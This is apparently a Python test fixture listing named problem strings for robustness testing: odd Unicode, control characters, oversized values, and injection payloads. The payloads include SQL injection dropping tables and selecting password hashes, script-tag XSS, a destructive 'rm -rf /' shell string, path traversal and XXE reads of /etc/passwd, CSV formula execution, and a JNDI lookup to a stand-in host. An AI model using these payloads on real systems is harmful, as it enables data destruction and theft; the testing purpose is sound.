"""Strings that break careless programs, written by ourselves, each with a name."""

from collections.abc import Iterator

_ZALGO = "Z" + "".join(chr(0x300 + turn % 0x70) for turn in range(200))

NASTY: dict[str, str] = {
    # nothing, or what looks like it
    "empty": "",
    "one blank": " ",
    "tabs and newlines": "\t\n\n\t",
    "ideographic space": "\u3000\u3000",
    "no-break spaces": "\u00a0\u202f\u2007",
    "zero-width characters": "\u200b\u200c\u200d\u2060\ufeff",
    "hangul filler": "\u3164\uffa0",
    "braille blank": "\u2800",
    "variation selectors alone": "\ufe0f\ufe0e",
    "tag characters alone": "\U000e0041\U000e007f",
    "combining marks alone": "\u0301\u0489\u20e3",
    # controls
    "NUL": "a\x00b",
    "NUL at the end": "路灯\x00",
    "escape sequence": "\x1b[31mred\x1b[0m",
    "bell and backspace": "a\x07\x08b",
    "vertical tab and form feed": "a\x0b\x0cb",
    "delete": "a\x7fb",
    "C1 controls": "a\x80\x85\x9fb",
    "lone carriage return": "a\rb",
    "carriage return and line feed": "第一行\r\n第二行",
    "fake header": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "fake log line": 'x\n{"level":"error","event":"crash"}',
    # Unicode
    "lone high surrogate": "a\ud800b",
    "lone low surrogate": "a\udfffb",
    "surrogates the wrong way round": "\udc00\ud800",
    "noncharacters": "a\ufffe\uffff\U0001ffffb",
    "replacement character": "a\ufffdb",
    "byte order mark in front": "\ufeff路灯坏了",
    "right-to-left override": "abc\u202egnp.exe",
    "unclosed isolates": "a\u2066b\u2067c\u2068d",
    "Arabic": "مصباح الشارع معطل",
    "Hebrew with points": "שָׁלוֹם עֲלֵיכֶם",
    "mixed directions": "路灯 مصباح 12 שלום 34",
    "family emoji": "👨‍👩‍👧‍👦👩🏽‍🚒🏳️‍🌈",
    "flags and keycaps": "🇨🇳🏴\U000e0067\U000e0062\U000e007f1️⃣",
    "characters beyond the first plane": "𠮷𱁬𝔘𝓷𝓲𐍈",
    "rare characters of names": "龘䶮㛃𬱖",
    "private use": "\ue000\uf8ff\U000f0000",
    "unassigned": "\u0378\U0003ffff",
    "separators of lines": "a\u2028b\u2029c",
    "soft hyphens and joiners": "路\u00ad灯\u034f坏\u200c了",
    "composed and decomposed": "é e\u0301 ﬁ ½ ²",
    "compatibility ideographs": "金\uf90a樂\uf914",
    "full-width": "ａｄｍｉｎ＇　ＯＲ　１＝１",
    "look-alikes": "аdmin раyраl",
    "piled-up marks": _ZALGO,
    "Turkish i": "İıIi ß ẞ ﬃ",
    "Tibetan and Mongolian": "བོད་སྐད་ ᠮᠣᠩᠭᠣᠯ",
    "musical and ancient": "𝄞𓀀𒀀",
    # other people's languages
    "SQL": "'); DROP TABLE requests;--",
    "SQL comment and union": "1' UNION SELECT password_hash FROM staff--",
    "dollar quotes": "$$; SELECT pg_sleep(10); $$",
    "LIKE and pattern signs": "%_\\%[a-z]^*?",
    "parameters of drivers": ":id $1 %s %(x)s ?",
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {0.__class__}",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;&amp;",
    "markup in an attribute": "\"' onmouseover='alert(1)",
    "link": "[x](javascript:alert(1)) javascript:alert(1) file:///etc/passwd",
    "spreadsheet formula": "=cmd|' /C calc'!A0",
    "spreadsheet formulas by other signs": "+1+1\t@SUM(A1)\t-2+3",
    "shell": "$(id) `id` ; rm -rf / | cat && true",
    "directory": "*)(uid=*))(|(uid=*",
    "document": '{"$ne": null}',
    "path": "../../../../etc/passwd\\..\\windows",
    "XML entity": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    "lookup": "${jndi:ldap://evil.test/a}",
    "percent escapes": "%00%0d%0a%u4e00%ff%25",
    "backslashes": "\\u0000 \\x00 \\n \\\\ \\",
    "quotes": "\"'`´‘’“”「」『』",
    "JSON inside": '{"text":"x","state":"closed"}',
    "CSV": 'a,"b""c";d\ne',
    # words that mean something to programs
    "null": "null",
    "undefined": "undefined",
    "NaN": "NaN",
    "Infinity": "-Infinity",
    "a number": "9" * 400,
    "a float": "1e400",
    "true": "true",
    "a prototype": "__proto__",
    "an object": "[object Object]",
    # size
    "one astral character": "🚧",
    "much too long": "路" * 20_000,
    "long without a break": "a" * 3_999,
    "very many lines": "\n" * 1_000 + "x",
    "many astral characters": "🚧" * 4_001,
}


def is_sendable(text: str) -> bool:
    """Whether UTF-8 can say it at all: lone surrogates only exist as JSON escapes."""
    try:
        text.encode()
    except UnicodeEncodeError:
        return False
    return True


def sendable() -> Iterator[tuple[str, str]]:
    return ((name, text) for name, text in NASTY.items() if is_sendable(text))
